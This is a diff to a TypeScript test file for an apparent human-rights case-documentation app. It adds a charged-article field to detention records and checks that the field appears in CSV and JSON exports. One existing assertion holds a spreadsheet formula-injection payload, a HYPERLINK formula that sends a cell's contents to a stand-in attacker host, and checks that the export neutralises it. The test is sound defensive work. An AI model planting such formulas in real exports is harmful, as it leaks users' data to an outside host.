@@ -128,7 +128,7 @@ for (const backend of BACKENDS) {
       await act(people.initials!, ENTRAPMENT, '2026-11-02');
       await act(people.refused!, DETENTION, '2026-11', 'month');
       await act(people.anonymous!, ENTRAPMENT, '2026-12-05');
-      const detention = { status: 'held', heldAt: place, custodyStart: null, lawyerAccess: 'none', familyAccess: 'unknown', legalProvisionId: null, courtId: null, hearingDate: null, decision: 'detention', decisionDate: '2026-11-02', fineAmount: null, detentionDays: 30, sentenceStart: null, releasedOn: null };
+      const detention = { status: 'held', heldAt: place, custodyStart: null, lawyerAccess: 'none', familyAccess: 'unknown', legalProvisionId: null, chargedArticle: '221.2.1', courtId: null, hearingDate: null, decision: 'detention', decisionDate: '2026-11-02', fineAmount: null, detentionDays: 30, sentenceStart: null, releasedOn: null };
       assert.equal((await documenter.post(`/api/acts/${held.id}/detention`, { version: 0, detention })).status, 200);
     });
     after(async () => {
@@ -148,6 +148,8 @@ for (const backend of BACKENDS) {
       assert.equal(rows[0]![col('act.typeLabel')], 'Detention');
       assert.equal(rows[0]![col('arrest.expectedRelease')], '2026-12-01');
       assert.equal(rows[0]![col('arrest.detentionDays')], '30');
+      assert.equal(rows[0]![col('arrest.chargedArticle')], '221.2.1');
+      assert.equal(col('arrest.chargedArticle'), col('arrest.legalProvision') + 1, 'beside the legal provision');
       assert.equal(rows[1]![col('arrest.status')], '', 'an act without a detention has empty arrest cells');
       assert.equal(rows[0]![col('act.placeLabel')], `'=HYPERLINK("http://evil.example/?"&A1)`, 'the formula shows as text');
       assert.equal(rows[0]![col('victim.consentSharing')], 'un');
@@ -162,7 +164,7 @@ for (const backend of BACKENDS) {
     });
 
     it('exports JSON with the fields chosen, in schema vigil-export/1', async () => {
-      const doc = JSON.parse(await exported(viewer, 'format=json&fields=act.code,act.type,victim.code,arrest.status&to=2026-11-30')) as {
+      const doc = JSON.parse(await exported(viewer, 'format=json&fields=act.code,act.type,victim.code,arrest.status,arrest.chargedArticle&to=2026-11-30')) as {
         schema: string;
         fields: string[];
         filters: Record<string, unknown>;
@@ -170,10 +172,10 @@ for (const backend of BACKENDS) {
         rowCount: number;
       };
       assert.equal(doc.schema, 'vigil-export/1');
-      assert.deepEqual(doc.fields, ['act.code', 'act.type', 'victim.code', 'arrest.status']);
+      assert.deepEqual(doc.fields, ['act.code', 'act.type', 'victim.code', 'arrest.status', 'arrest.chargedArticle']);
       assert.deepEqual(doc.filters, { from: null, to: '2026-11-30', incident: null });
       assert.equal(doc.rowCount, 3, 'the December act is after the range');
-      assert.deepEqual(doc.rows[0], { 'act.code': 'A-0001', 'act.type': DETENTION, 'victim.code': 'P-0001', 'arrest.status': 'held' });
+      assert.deepEqual(doc.rows[0], { 'act.code': 'A-0001', 'act.type': DETENTION, 'victim.code': 'P-0001', 'arrest.status': 'held', 'arrest.chargedArticle': '221.2.1' });
       assert.deepEqual(Object.keys(doc.rows[1]!), doc.fields);
       // A month-precise date counts when the month overlaps the range.
       const november = JSON.parse(await exported(viewer, `format=json&fields=act.code&from=2026-11-15&to=2026-11-30&incident=${incident.code}`)) as { rows: { 'act.code': string }[] };
